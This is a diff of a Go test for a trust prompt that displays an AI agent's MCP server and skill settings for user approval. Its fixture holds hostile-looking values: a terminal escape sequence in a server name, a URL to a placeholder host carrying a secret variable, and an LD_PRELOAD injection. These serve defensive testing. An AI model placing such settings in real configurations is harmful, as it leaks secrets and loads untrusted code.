@@ -189,14 +189,14 @@ func TestTrustQuestion(t *testing.T) {
 func TestTrustQuestionOfServers(t *testing.T) {
 	dir := workspace(t)
 	t.Setenv("SECRET", "hush")
-	writeConfig(t, configFile, `{"skills":["more"],"mcpServers":{"a\u001b[2J":{"command":"true"},"b":{"url":"https://x.example/?${SECRET}",
+	writeConfig(t, configFile, `{"skills":["more"],"mcpServers":{"a\u001bJ":{"command":"true"},"b":{"url":"https://x.example/?${SECRET}",
 		"\u0065nv":{"LD_PRELOAD":"./x.so"},
 		"args":[12345678901234567890]}}}`)
 	if err := os.MkdirAll(".agents/skills", 0o700); err != nil {
 		t.Fatal(err)
 	}
 	c, shown := answerTrust(t, "n\n")
-	want := `    | mcpServers.a[2J = {"command":"true"}
+	want := `    | mcpServers.aJ = {"command":"true"}
     | mcpServers.b = {"args":[12345678901234567890],"env":{"LD_PRELOAD":"./x.so"},"url":"https://x.example/?${SECRET}"}
     | skills = ` + filepath.Join(dir, "more") + `
     | skills = ` + filepath.Join(dir, ".agents", "skills") + `
